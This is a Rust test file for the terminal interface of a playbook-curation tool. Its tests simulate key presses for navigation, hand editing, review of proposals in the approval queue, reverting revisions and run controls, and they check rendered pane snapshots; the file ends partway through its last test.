//! The workbench without a terminal: `update` for every key, and rendered panes as snapshots.

use crate::common::*;
use ace::adaptation::{
    Checkpoint, Control, Event, FeedbackMode, RunConfig, RunKind, RunStatus, Split,
};
use ace::approval::BatchStatus;
use ace::approval::Decision;
use ace::delta::{DeltaBatch, DeltaOp};
use ace::store::Store;
use ace::tui::action::{Action, Effect, HandEdit};
use ace::tui::popups::Popup;
use ace::tui::state::{Pane, Phase, Snapshot, State};
use ace::tui::{render, update::update};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use serde_json::json;

fn key(state: &mut State, code: KeyCode) -> Vec<Effect> {
    update(state, Action::Key(KeyEvent::new(code, KeyModifiers::NONE)))
}

fn ctrl(state: &mut State, c: char) -> Vec<Effect> {
    update(
        state,
        Action::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL)),
    )
}

fn typed(state: &mut State, text: &str) {
    for c in text.chars() {
        key(state, KeyCode::Char(c));
    }
}

/// A store with a playbook, one applied change and one queued proposal with evidence.
fn fixture() -> (Store, State) {
    let mut store = finance_store();
    apply(
        &mut store,
        "fin",
        batch("tags2", vec![tag("err-00003", 0, 2)]),
    );
    let provenance = json!({"samples": [{"key": "train/1/1/0", "question": "Find the quick ratio of a firm with ...", "answer": "1.00", "ground_truth": "0.80", "correct": false,
        "reflection": {"error_identification": "used the current ratio", "key_insight": "quick ratio excludes inventory"}}]});
    store
        .propose(
            "fin",
            "k1",
            Some("run-1"),
            "the quick ratio is missing",
            &[
                (
                    "c-1".into(),
                    DeltaOp::Add(ace::delta::AddOp::new(
                        "FORMULAS AND CALCULATIONS",
                        "Quick ratio = (current assets - inventory) / current liabilities.",
                    )),
                ),
                (
                    "c-2".into(),
                    DeltaOp::Remove {
                        bullet_id: "err-00003".into(),
                    },
                ),
            ],
            &serde_json::from_value(provenance).unwrap(),
        )
        .unwrap();
    let mut state = State::new(
        "database test.db".into(),
        "model: test-model at http://127.0.0.1:9/v1".into(),
        RunConfig {
            dataset: "data.jsonl".into(),
            ..RunConfig::default()
        },
    );
    state.no_color = true;
    let mut snapshot = Snapshot {
        playbooks: vec!["fin".into()],
        playbook: store.load_playbook("fin").unwrap(),
        tokens: store.playbook_tokens("fin").unwrap(),
        token_budget: None,
        queue: store.pending(None).unwrap(),
        revisions: store.revisions(Some("fin"), 100).unwrap(),
        effects: Default::default(),
        trials: Default::default(),
    };
    for b in &mut snapshot.playbook.bullets {
        b.created_at = "2026-11-24T12:00:00.000Z".into();
        b.updated_at = "2026-11-24T12:00:00.000Z".into();
    }
    for r in &mut snapshot.revisions {
        r.created_at = "2026-11-24T12:00:00.000Z".into();
    }
    for b in &mut snapshot.queue {
        b.created_at = "2026-11-24T12:00:00.000Z".into();
    }
    update(&mut state, Action::Loaded(Box::new(snapshot)));
    (store, state)
}

/// The loop's `Started` event for run `run` on playbook `fin`.
fn started(run: &str, train: usize, resumed: bool) -> Action {
    Action::Run(Box::new(Event::Started {
        run: run.into(),
        playbook: "fin".into(),
        kind: Default::default(),
        feedback_mode: FeedbackMode::GroundTruth,
        train,
        val: 0,
        test: 0,
        resumed,
    }))
}

fn screen(state: &State, w: u16, h: u16) -> String {
    let mut terminal = Terminal::new(TestBackend::new(w, h)).unwrap();
    terminal.draw(|f| render(state, f)).unwrap();
    let buffer = terminal.backend().buffer().clone();
    (0..h)
        .map(|y| {
            (0..w)
                .map(|x| buffer[(x, y)].symbol().to_string())
                .collect::<String>()
                .trim_end()
                .to_string()
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn navigation_keys() {
    let (_s, mut st) = fixture();
    assert_eq!(st.focus, Pane::Sections);
    assert_eq!(st.visible.len(), 2, "the first section's bullets");
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(st.section, 1);
    assert_eq!(st.visible.len(), 1);
    key(&mut st, KeyCode::Tab);
    assert_eq!(st.focus, Pane::Bullets);
    key(&mut st, KeyCode::BackTab);
    key(&mut st, KeyCode::Char('G'));
    assert_eq!(st.section, 2);
    key(&mut st, KeyCode::Char('g'));
    assert_eq!(st.section, 0);
    key(&mut st, KeyCode::Right);
    key(&mut st, KeyCode::Down);
    assert_eq!((st.focus, st.bullet), (Pane::Bullets, 1));
    update(&mut st, Action::ScrollUp);
    assert_eq!(st.bullet, 0);
    key(&mut st, KeyCode::PageDown);
    assert_eq!(st.bullet, 1, "a page down stops at the last bullet");
    key(&mut st, KeyCode::PageUp);
    assert_eq!(st.bullet, 0);
    key(&mut st, KeyCode::Left);
    update(&mut st, Action::ScrollDown);
    assert_eq!(st.section, 2, "the mouse wheel scrolls the focused pane");
    key(&mut st, KeyCode::Char('g'));
    for (k, pane) in [('2', Pane::Run), ('3', Pane::Queue), ('1', Pane::Sections)] {
        key(&mut st, KeyCode::Char(k));
        assert_eq!(st.focus, pane);
    }
    assert_eq!(
        key(&mut st, KeyCode::Char('4')),
        vec![Effect::LoadRevision(st.revisions[0].id)]
    );
    key(&mut st, KeyCode::Char('?'));
    assert!(matches!(st.popup, Some(Popup::Help { scroll: 0 })));
    key(&mut st, KeyCode::Char('j'));
    key(&mut st, KeyCode::Char('j'));
    key(&mut st, KeyCode::Char('k'));
    assert!(
        matches!(st.popup, Some(Popup::Help { scroll: 1 })),
        "j/k scroll the list"
    );
    key(&mut st, KeyCode::Char('G'));
    // the last line of the help: one line per hint of the key table, then the 9 editing keys and
    // the 2 mouse lines
    let last = ace::tui::keymap::HINTS.len() as u16 + 9 + 2 - 1;
    assert!(matches!(st.popup, Some(Popup::Help { scroll }) if scroll == last));
    key(&mut st, KeyCode::Esc);
    assert!(st.popup.is_none());
    let (_s2, mut other) = fixture();
    ctrl(&mut other, 'c');
    assert!(other.quit, "Ctrl-c quits too");
    key(&mut st, KeyCode::Char('q'));
    assert!(st.quit, "no run active: q quits at once");
}

#[test]
fn filter_sort_and_details() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('/'));
    typed(&mut st, "ratio");
    assert_eq!(
        st.visible.len(),
        1,
        "filters across all sections as you type"
    );
    key(&mut st, KeyCode::Enter);
    assert!(st.popup.is_none());
    assert_eq!(st.filter, "ratio");
    key(&mut st, KeyCode::Esc);
    assert!(st.filter.is_empty());
    key(&mut st, KeyCode::Char('o'));
    key(&mut st, KeyCode::Char('o'));
    assert_eq!(st.sort, ace::tui::state::Sort::Helpful);
    assert_eq!(st.selected_bullet().unwrap().id, "calc-00001");
    key(&mut st, KeyCode::Enter);
    assert!(st.show_detail);
}

#[test]
fn manual_curation_is_deltas_from_a_human() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('a'));
    typed(&mut st, "Use the median for skewed data.");
    let effects = key(&mut st, KeyCode::Enter);
    let Effect::Apply(b) = &effects[0] else {
        panic!("{effects:?}")
    };
    assert_eq!(b.what, "add");
    assert!(
        matches!(&b.ops[0], DeltaOp::Add(a) if a.section == "FORMULAS AND CALCULATIONS" && a.content == "Use the median for skewed data.")
    );
    key(&mut st, KeyCode::Right);
    key(&mut st, KeyCode::Char('e'));
    typed(&mut st, " Always.");
    let effects = key(&mut st, KeyCode::Enter);
    assert!(
        matches!(&effects[0], Effect::Apply(b) if matches!(&b.ops[0], DeltaOp::Update(u) if u.content.as_deref() == Some("Current ratio = current assets / current liabilities. Always.")))
    );
    key(&mut st, KeyCode::Char('m'));
    let Some(Popup::MoveTo { sections, .. }) = &st.popup else {
        panic!("m opens the section picker")
    };
    assert_eq!(
        sections,
        &["COMMON MISTAKES TO AVOID", "OTHERS"],
        "the other sections"
    );
    insta::assert_snapshot!("move_to", screen(&st, 80, 24));
    key(&mut st, KeyCode::Char('j'));
    key(&mut st, KeyCode::Char('j'));
    let effects = key(&mut st, KeyCode::Enter);
    assert!(
        matches!(&effects[0], Effect::Apply(b) if matches!(&b.ops[0], DeltaOp::Update(u) if u.section.as_deref() == Some("OTHERS")))
    );
    key(&mut st, KeyCode::Char('d'));
    assert!(matches!(st.popup, Some(Popup::Confirm { .. })));
    let effects = key(&mut st, KeyCode::Char('y'));
    assert!(
        matches!(&effects[0], Effect::Apply(b) if b.ops[0] == DeltaOp::Remove { bullet_id: "calc-00001".into() })
    );
    key(&mut st, KeyCode::Char('S'));
    typed(&mut st, "DATES");
    let effects = key(&mut st, KeyCode::Enter);
    assert!(
        matches!(&effects[0], Effect::Apply(b) if matches!(&b.ops[0], DeltaOp::AddSection { section, .. } if section == "DATES"))
    );
}

/// Runs the `Apply` effects against the store and reloads the panes, as the workbench does.
fn applied(store: &mut Store, st: &mut State, effects: Vec<Effect>) {
    for e in effects {
        let Effect::Apply(edit) = e else {
            panic!("{e:?}")
        };
        // the runner gives each edit a fresh batch id; here the revision count does
        let n = store.revisions(Some("fin"), 10_000).unwrap().len();
        let b = DeltaBatch::new(
            format!("tui-{}-{n}", edit.what),
            ace::delta::Source::Human,
            edit.ops,
        )
        .with_reason(edit.reason);
        store
            .apply("fin", &b, &ace::delta::ApplyOptions::create_sections())
            .unwrap();
    }
    reload(store, st);
}

/// The store's state of playbook `fin` loaded into the workbench, as the runner would.
fn reload(store: &mut Store, st: &mut State) {
    let snapshot = Snapshot {
        playbooks: vec!["fin".into()],
        playbook: store.load_playbook("fin").unwrap(),
        tokens: store.playbook_tokens("fin").unwrap(),
        token_budget: None,
        queue: store.pending(None).unwrap(),
        revisions: store.revisions(Some("fin"), 100).unwrap(),
        effects: Default::default(),
        trials: Default::default(),
    };
    update(st, Action::Loaded(Box::new(snapshot)));
}

#[test]
fn sections_are_renamed_moved_and_removed_by_hand() {
    let (mut store, mut st) = fixture();
    let names = |st: &State| {
        st.playbook
            .sections
            .iter()
            .map(|s| s.name.clone())
            .collect::<Vec<_>>()
    };
    // e renames the selected section (the input starts with its name)
    key(&mut st, KeyCode::Char('e'));
    ctrl(&mut st, 'u'); // clears the line
    typed(&mut st, "Formulas");
    let effects = key(&mut st, KeyCode::Enter);
    assert!(matches!(&effects[0], Effect::Apply(b) if b.what == "section-rename"));
    applied(&mut store, &mut st, effects);
    assert_eq!(names(&st)[0], "Formulas");
    assert_eq!(st.visible.len(), 2, "its bullets came along");
    // J moves it down one place, and the selection follows it; K moves it back
    let effects = key(&mut st, KeyCode::Char('J'));
    applied(&mut store, &mut st, effects);
    assert_eq!(
        names(&st),
        ["COMMON MISTAKES TO AVOID", "Formulas", "OTHERS"]
    );
    assert_eq!(st.section_name(), Some("Formulas"));
    let effects = key(&mut st, KeyCode::Char('K'));
    applied(&mut store, &mut st, effects);
    assert_eq!(names(&st)[0], "Formulas");
    assert!(
        key(&mut st, KeyCode::Char('K')).is_empty(),
        "the first section goes no higher"
    );
    // d removes the section and its bullets, after a confirmation that counts them
    key(&mut st, KeyCode::Char('d'));
    let Some(Popup::Confirm { message, .. }) = &st.popup else {
        panic!("d asks first")
    };
    assert!(
        message.contains("Remove section 'Formulas' and its 2 bullets?"),
        "{message}"
    );
    let effects = key(&mut st, KeyCode::Char('y'));
    applied(&mut store, &mut st, effects);
    assert!(!names(&st).contains(&"Formulas".to_string()));
    // in the bullets pane the same keys act on bullets
    key(&mut st, KeyCode::Right);
    key(&mut st, KeyCode::Char('e'));
    assert!(matches!(&st.popup, Some(Popup::Input { title, .. }) if title.starts_with("edit [")));
}

#[test]
fn queue_review_keys() {
    let (_s, mut st) = fixture();
    let id = st.queue[0].id;
    key(&mut st, KeyCode::Char('3'));
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::Decide {
            batch: id,
            decisions: vec![(0, Decision::Approve)]
        }]
    );
    key(&mut st, KeyCode::Char('n'));
    typed(&mut st, "too vague");
    assert_eq!(
        key(&mut st, KeyCode::Enter),
        vec![Effect::Decide {
            batch: id,
            decisions: vec![(
                0,
                Decision::Reject {
                    reason: Some("too vague".into())
                }
            )]
        }]
    );
    key(&mut st, KeyCode::Char('s'));
    assert_eq!(st.op_sel, 1, "skip moves to the next op");
    key(&mut st, KeyCode::Char('k'));
    key(&mut st, KeyCode::Char('e'));
    let Some(Popup::EditOp { .. }) = &st.popup else {
        panic!("edit opens the editor")
    };
    // replace the op with an edited one: select all, type, Ctrl-s
    ctrl(&mut st, 'a');
    key(&mut st, KeyCode::Esc);
    assert!(st.popup.is_none(), "Esc cancels the edit");
    key(&mut st, KeyCode::Char('e'));
    if let Some(Popup::EditOp { editor, .. }) = &mut st.popup {
        *editor = ratatui_textarea::TextArea::new(vec![
            r#"{"type": "ADD", "section": "OTHERS", "content": "edited"}"#.into(),
        ]);
    }
    let effects = ctrl(&mut st, 's');
    assert!(
        matches!(&effects[0], Effect::Decide { decisions, .. } if matches!(&decisions[0].1, Decision::Edit(DeltaOp::Add(a)) if a.content == "edited"))
    );
    key(&mut st, KeyCode::Char('A'));
    let Some(Popup::Confirm { message, .. }) = &st.popup else {
        panic!()
    };
    assert!(message.contains("Approve all 2 undecided ops"), "{message}");
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::DecideAll {
            batch: id,
            approve: true
        }]
    );
    key(&mut st, KeyCode::Char('R'));
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::DecideAll {
            batch: id,
            approve: false
        }]
    );
    assert!(
        key(&mut st, KeyCode::Char('u')).is_empty(),
        "nothing to undo yet"
    );
    update(
        &mut st,
        Action::Decided {
            batch: id,
            revision: Some(7),
            closed: true,
        },
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('u')),
        vec![Effect::Revert {
            revision: 7,
            force: false
        }]
    );
    key(&mut st, KeyCode::Char(']'));
    key(&mut st, KeyCode::Char('['));
    assert_eq!(st.queue_sel, 0);
}

#[test]
fn revision_keys() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('4'));
    let id = st.revisions[0].id;
    key(&mut st, KeyCode::Char('r'));
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::Revert {
            revision: id,
            force: false
        }]
    );
    key(&mut st, KeyCode::Char('r'));
    assert!(key(&mut st, KeyCode::Char('n')).is_empty(), "n cancels");
    // a conflict is explained and can be forced
    update(&mut st, Action::RevertConflict { revision: id, detail: "bullet calc-00001 was changed later by revision 9 (curator); use --force to revert anyway".into() });
    let Some(Popup::Confirm { message, .. }) = &st.popup else {
        panic!("a conflict asks")
    };
    assert!(
        message.contains("bullet calc-00001 was changed later by revision 9")
            && message.contains("Force it?"),
        "{message}"
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::Revert {
            revision: id,
            force: true
        }]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('v')),
        vec![Effect::LoadPlaybookAt(id)]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('j')),
        vec![Effect::LoadRevision(st.revisions[1].id)]
    );
}

#[test]
fn run_keys_and_events() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('2'));
    assert!(key(&mut st, KeyCode::Char('p')).is_empty(), "no run yet");
    key(&mut st, KeyCode::Char('r'));
    let Some(Popup::RunForm(form)) = &st.popup else {
        panic!("r opens the run form")
    };
    assert_eq!(
        form.fields[form.focus].key, "dataset",
        "the cursor starts on the dataset"
    );
    // update checks what needs no file system and asks for the run; the effects runner checks
    // the files and answers: the fixture's dataset does not exist, so the form says so and stays
    // open on that field
    let effects = key(&mut st, KeyCode::Enter);
    assert!(
        matches!(&effects[..], [Effect::StartRun(c)] if c.dataset == std::path::Path::new("data.jsonl")),
        "{effects:?}"
    );
    update(
        &mut st,
        Action::RunRefused {
            field: Some("dataset"),
            message: "dataset: no file at data.jsonl".into(),
        },
    );
    let Some(Popup::RunForm(form)) = &st.popup else {
        panic!("the form stays open")
    };
    assert_eq!(
        form.error.as_deref(),
        Some("dataset: no file at data.jsonl")
    );
    assert_eq!(form.fields[form.focus].key, "dataset");
    // replace the dataset with a real file, then set epochs to something that is not a number
    ctrl(&mut st, 'u'); // clears the field
    let sample = "assets/sample/dataset.jsonl"; // tests run in the crate's directory
    typed(&mut st, sample);
    for _ in 0..4 {
        key(&mut st, KeyCode::Tab); // val, test, env, epochs
    }
    key(&mut st, KeyCode::Backspace);
    typed(&mut st, "two");
    key(&mut st, KeyCode::Up);
    key(&mut st, KeyCode::Enter);
    let Some(Popup::RunForm(form)) = &st.popup else {
        panic!("the form stays open")
    };
    assert_eq!(
        form.fields[form.focus].key, "epochs",
        "the cursor goes to the bad field"
    );
    assert!(
        form.error
            .as_deref()
            .unwrap()
            .contains("'two' is not a whole number")
    );
    insta::assert_snapshot!("run_form", screen(&st, 80, 24));
    ctrl(&mut st, 'u');
    typed(&mut st, "2");
    let effects = key(&mut st, KeyCode::Enter);
    let Effect::StartRun(config) = &effects[0] else {
        panic!("{effects:?}")
    };
    assert_eq!(config.dataset, std::path::PathBuf::from(sample));
    assert_eq!(config.epochs, 2);
    assert!(
        matches!(&st.popup, Some(Popup::RunForm(f)) if f.checking),
        "the form waits for the files to be checked"
    );
    update(&mut st, Action::RunAccepted);
    assert!(st.popup.is_none());
    assert_eq!(st.run.phase, Phase::Starting);
    update(&mut st, started("run-1", 10, false));
    assert!(st.run.active);
    assert_eq!(
        key(&mut st, KeyCode::Char('p')),
        vec![Effect::Control(Control::Pause)]
    );
    update(&mut st, Action::Run(Box::new(Event::Paused)));
    assert_eq!(
        key(&mut st, KeyCode::Char('p')),
        vec![Effect::Control(Control::Resume)]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char(' ')),
        vec![Effect::Control(Control::Step)]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('b')),
        vec![Effect::Control(Control::RunToBatchEnd)]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('E')),
        vec![Effect::Control(Control::RunToEpochEnd)]
    );
    key(&mut st, KeyCode::Char('x'));
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::Control(Control::Cancel)]
    );
    key(&mut st, KeyCode::Char('q'));
    assert!(
        !st.quit && matches!(st.popup, Some(Popup::Confirm { .. })),
        "quitting with an active run asks first"
    );
    key(&mut st, KeyCode::Esc);
    assert_eq!(
        update(
            &mut st,
            Action::Run(Box::new(Event::WaitingForApproval { pending: 3 }))
        ),
        vec![Effect::Refresh]
    );
    assert_eq!(st.run.waiting_on, Some(3));
    assert!(key(&mut st, KeyCode::Char('r')).is_empty());
    assert_eq!(st.message, "a run is already active");
    // Deciding another batch leaves the run waiting; closing the one it waits on wakes it at once.
    let decided = |st: &mut State, batch| {
        update(
            st,
            Action::Decided {
                batch,
                revision: None,
                closed: true,
            },
        )
    };
    assert_eq!(decided(&mut st, 2), vec![Effect::Refresh]);
    assert_eq!(st.run.waiting_on, Some(3));
    assert_eq!(
        decided(&mut st, 3),
        vec![Effect::Refresh, Effect::Control(Control::Wake)]
    );
    assert_eq!(st.run.waiting_on, None);
    assert_eq!(st.run.phase, Phase::Decided(3));
    assert_eq!(st.run.phase.to_string(), "proposal #3 decided; resuming");
}

#[test]
fn the_shown_playbook_is_switched_by_hand_and_follows_the_selected_proposal() {
    let (mut store, mut st) = fixture();
    // with one playbook, P lists it too (to rename, copy or delete it)
    key(&mut st, KeyCode::Char('P'));
    assert!(matches!(st.popup, Some(Popup::PickPlaybook { .. })));
    key(&mut st, KeyCode::Esc);
    store.create_playbook("ops", &["Runbooks"]).unwrap();
    store
        .propose(
            "ops",
            "k9",
            None,
            "a lesson for the ops playbook",
            &[("c-9".into(), add("Runbooks", "Restart the worker first."))],
            &Default::default(),
        )
        .unwrap();
    let load = |store: &mut Store, st: &mut State, name: &str| {
        update(
            st,
            Action::Loaded(Box::new(ace::tui::snapshot(store, name).unwrap())),
        )
    };
    assert!(load(&mut store, &mut st, "fin").is_empty());

    // P picks another playbook to show; runs started from the form now default to it
    key(&mut st, KeyCode::Char('P'));
    let Some(Popup::PickPlaybook { names, sel }) = &st.popup else {
        panic!("P opens the playbook picker")
    };
    assert_eq!(
        (names.as_slice(), *sel),
        (&["fin".into(), "ops".into()][..], 0)
    );
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(
        key(&mut st, KeyCode::Enter),
        vec![Effect::OpenPlaybook("ops".into())]
    );
    assert_eq!(st.default_run.playbook, "ops");
    load(&mut store, &mut st, "ops");
    assert_eq!(st.playbook.name, "ops");
    assert!(screen(&st, 80, 24).contains("ops (0 bullets · "));
    key(&mut st, KeyCode::Char('P'));
    key(&mut st, KeyCode::Char('k'));
    assert_eq!(
        key(&mut st, KeyCode::Enter),
        vec![Effect::OpenPlaybook("fin".into())]
    );
    load(&mut store, &mut st, "fin");

    // in the queue, a proposal is shown against its own playbook
    assert!(
        key(&mut st, KeyCode::Char('3')).is_empty(),
        "fin's batch first"
    );
    assert_eq!(
        key(&mut st, KeyCode::Char(']')),
        vec![Effect::OpenPlaybook("ops".into())]
    );
    assert_eq!(
        st.message,
        "showing playbook 'ops', which this proposal is for"
    );
    assert!(
        update(&mut st, Action::Tick).is_empty(),
        "asked once while it loads"
    );
    load(&mut store, &mut st, "ops");
    let shown = screen(&st, 100, 30);
    assert!(shown.contains("Restart the worker first."), "{shown}");
    assert!(!shown.contains("approving creates section"), "{shown}");
    // picking a playbook from the queue shows it in the Playbook pane (the queue would follow back)
    key(&mut st, KeyCode::Char('P'));
    key(&mut st, KeyCode::Char('k'));
    assert_eq!(
        key(&mut st, KeyCode::Enter),
        vec![Effect::OpenPlaybook("fin".into())]
    );
    assert_eq!(st.focus, Pane::Sections);
    assert!(load(&mut store, &mut st, "fin").is_empty());
    assert_eq!(st.playbook.name, "fin");
}

#[test]
fn the_run_form_mode_field_starts_online_windows() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('2'));
    key(&mut st, KeyCode::Char('r'));
    ctrl(&mut st, 'u');
    typed(&mut st, "assets/sample/dataset.jsonl");
    key(&mut st, KeyCode::Up); // mode
    ctrl(&mut st, 'u');
    typed(&mut st, "sideways");
    assert!(key(&mut st, KeyCode::Enter).is_empty());
    let Some(Popup::RunForm(form)) = &st.popup else {
        panic!("the form stays open")
    };
    assert_eq!(form.fields[form.focus].key, "mode");
    assert_eq!(
        form.error.as_deref(),
        Some("mode: 'sideways' is not offline or online")
    );
    ctrl(&mut st, 'u');
    typed(&mut st, "Online");
    let effects = key(&mut st, KeyCode::Enter);
    let [Effect::StartRun(config)] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    assert_eq!(config.kind, ace::adaptation::RunKind::Online);
    assert_eq!(config.batch_size, RunConfig::default().batch_size);
}

#[test]
fn resume_lists_unfinished_runs_and_resumes_the_picked_one() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('2'));
    assert_eq!(
        key(&mut st, KeyCode::Char('R')),
        vec![Effect::LoadUnfinishedRuns]
    );
    update(&mut st, Action::UnfinishedRuns(Vec::new()));
    assert!(st.popup.is_none());
    assert_eq!(
        st.message,
        "every run has finished; nothing to resume (r starts one)"
    );
    let record = |id: &str, status: &str, checkpoint| ace::tui::state::Unfinished {
        live_elsewhere: status == "waiting",
        run: ace::adaptation::RunRecord {
            id: id.into(),
            playbook: "fin".into(),
            kind: RunKind::Offline,
            status: RunStatus::parse(status).unwrap(),
            config: RunConfig::default(),
            feedback_mode: FeedbackMode::GroundTruth,
            checkpoint,
            best_revision: None,
            error: None,
            created_at: "2026-11-24T12:00:00.000Z".into(),
            updated_at: "2026-11-24T12:30:00.000Z".into(),
        },
    };
    update(
        &mut st,
        Action::UnfinishedRuns(vec![
            record("run-4", "waiting", None),
            record(
                "run-3",
                "failed",
                Some(Checkpoint {
                    epoch: 2,
                    step: 7,
                    ..Default::default()
                }),
            ),
            record("run-2", "cancelled", None),
        ]),
    );
    insta::assert_snapshot!("resume_run", screen(&st, 100, 24));
    // a run another process drives is not started twice
    assert!(key(&mut st, KeyCode::Enter).is_empty());
    assert!(
        st.message
            .starts_with("run-4 is being run by another process right now"),
        "{}",
        st.message
    );
    assert!(matches!(st.popup, Some(Popup::ResumeRun { .. })));
    key(&mut st, KeyCode::Char('j'));
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(
        key(&mut st, KeyCode::Enter),
        vec![Effect::ResumeRun {
            run: "run-2".into(),
            playbook: "fin".into()
        }]
    );
    assert!(st.popup.is_none());
    // with a run active, R does not resume another
    update(&mut st, started("run-2", 4, true));
    assert!(key(&mut st, KeyCode::Char('R')).is_empty());
    assert_eq!(st.message, "a run is already active");
}

#[test]
fn panes_render_at_80_by_24() {
    let (store, mut st) = fixture();
    insta::assert_snapshot!("playbook", screen(&st, 80, 24));
    key(&mut st, KeyCode::Right);
    let effects = key(&mut st, KeyCode::Enter);
    assert_eq!(
        effects,
        vec![Effect::LoadStory("calc-00001".into())],
        "the detail view loads the bullet's story"
    );
    update(
        &mut st,
        Action::StoryLoaded(Box::new(store.bullet_story("fin", "calc-00001").unwrap())),
    );
    insta::assert_snapshot!("bullet_detail", screen(&st, 80, 24));
    key(&mut st, KeyCode::Char('3'));
    insta::assert_snapshot!("queue", screen(&st, 80, 24));
    key(&mut st, KeyCode::Char('2'));
    update(&mut st, started("run-1", 10, false));
    update(
        &mut st,
        Action::Run(Box::new(Event::SampleStarted {
            key: "train/1/1/0".into(),
            question: "Find the quick ratio.".into(),
        })),
    );
    update(
        &mut st,
        Action::Run(Box::new(Event::Evaluated {
            key: "train/1/1/0".into(),
            round: 1,
            correct: false,
            feedback: "wrong: expected 0.80, got 1.00".into(),
        })),
    );
    assert_eq!(st.run.log.back().unwrap(), "train/1/1/0: wrong");
    let mut retried = State::new(String::new(), String::new(), RunConfig::default());
    update(
        &mut retried,
        Action::Run(Box::new(Event::Evaluated {
            key: "train/1/1/0".into(),
            round: 2,
            correct: true,
            feedback: "right".into(),
        })),
    );
    assert_eq!(
        retried.run.log.back().unwrap(),
        "train/1/1/0: right (attempt 2, after reflection)"
    );
    assert_eq!(retried.run.slots[0].verdict, "right — right (attempt 2)");
    update(
        &mut st,
        Action::Run(Box::new(Event::EpochFinished {
            epoch: 1,
            split: Split::Train,
            correct: 6,
            total: 10,
        })),
    );
    update(
        &mut st,
        Action::Run(Box::new(Event::BatchFinished {
            epoch: 2,
            step: 13,
            done: 3,
            total: 10,
            correct_so_far: 2,
            seen_so_far: 3,
        })),
    );
    insta::assert_snapshot!("run", screen(&st, 80, 24));
    assert!(screen(&st, 80, 24).contains("this epoch 2/3"));
    // another run in the same session starts from a clean view (the log stays)
    let mut next = State::new(String::new(), String::new(), RunConfig::default());
    next.run = st.run.clone();
    update(&mut next, started("run-2", 4, false));
    assert!(next.run.accuracy.is_empty() && next.run.so_far.is_none());
    assert_eq!((next.run.done, next.run.total), (0, 4));
    assert!(next.run.slots.is_empty() && next.run.last.is_none());
    assert_eq!(next.run.log.len(), st.run.log.len() + 1);
    assert_eq!(
        next.run.log.back().unwrap(),
        "run-2 started on 'fin' (4 training samples)"
    );
    key(&mut st, KeyCode::Char('4'));
    insta::assert_snapshot!("revisions", screen(&st, 80, 24));
    key(&mut st, KeyCode::Char('?'));
    insta::assert_snapshot!("help", screen(&st, 80, 24));
}

#[test]
fn colours_follow_the_background_and_no_color() {
    use ace::tui::state::light_background;
    use ratatui::style::Color;
    assert!(light_background(Some("light"), None));
    assert!(!light_background(Some("dark"), Some("0;15")));
    assert!(light_background(None, Some("0;15")));
    assert!(light_background(None, Some("0;default;7")));
    assert!(!light_background(None, Some("15;0")));
    assert!(!light_background(None, None));

    // a counter move in a revision diff: yellow on dark, magenta on light, plain with NO_COLOR
    let (store, mut st) = fixture();
    let tags = st.revisions[0].id; // tags2: err-00003 harmful +2
    update(
        &mut st,
        Action::RevisionLoaded(Box::new(store.revision(tags).unwrap())),
    );
    key(&mut st, KeyCode::Char('4'));
    let colour_of = |st: &State| {
        let mut terminal = Terminal::new(TestBackend::new(100, 24)).unwrap();
        terminal.draw(|f| render(st, f)).unwrap();
        let buffer = terminal.backend().buffer().clone();
        let y = (0..24)
            .find(|y| {
                (0..100)
                    .map(|x| buffer[(x, *y)].symbol())
                    .collect::<String>()
                    .contains("[err-00003] helpful")
            })
            .expect("the counter move is shown");
        let x = (0..100).find(|x| buffer[(*x, y)].symbol() == "[").unwrap();
        buffer[(x, y)].fg
    };
    st.no_color = false;
    assert_eq!(colour_of(&st), Color::Yellow);
    st.light_background = true;
    assert_eq!(colour_of(&st), Color::Magenta);
    st.no_color = true;
    assert_eq!(colour_of(&st), Color::Reset);
}

#[test]
fn popups_and_diffs_render_at_80_by_24() {
    let (store, mut st) = fixture();
    key(&mut st, KeyCode::Char('3'));
    key(&mut st, KeyCode::Char('e'));
    insta::assert_snapshot!("edit_op", screen(&st, 80, 24));
    key(&mut st, KeyCode::Esc);
    key(&mut st, KeyCode::Char('n'));
    insta::assert_snapshot!("reject_reason", screen(&st, 80, 24));
    key(&mut st, KeyCode::Esc);
    key(&mut st, KeyCode::Char('A'));
    insta::assert_snapshot!("approve_all", screen(&st, 80, 24));
    key(&mut st, KeyCode::Esc);
    // the diff of the revision that added the four bullets
    key(&mut st, KeyCode::Char('4'));
    let seed = st
        .revisions
        .iter()
        .find(|r| r.batch_id == "seed")
        .unwrap()
        .id;
    let mut detail = store.revision(seed).unwrap();
    detail.revision.created_at = "2026-11-24T12:00:00.000Z".into();
    update(&mut st, Action::RevisionLoaded(Box::new(detail)));
    insta::assert_snapshot!("revision_diff", screen(&st, 80, 24));
}

#[test]
fn bullet_content_takes_line_breaks_and_one_line_inputs_do_not() {
    let (_store, mut st) = fixture();
    key(&mut st, KeyCode::Right);
    key(&mut st, KeyCode::Char('e'));
    let alt_enter = KeyEvent::new(KeyCode::Enter, KeyModifiers::ALT);
    update(&mut st, Action::Key(alt_enter));
    typed(&mut st, "```python");
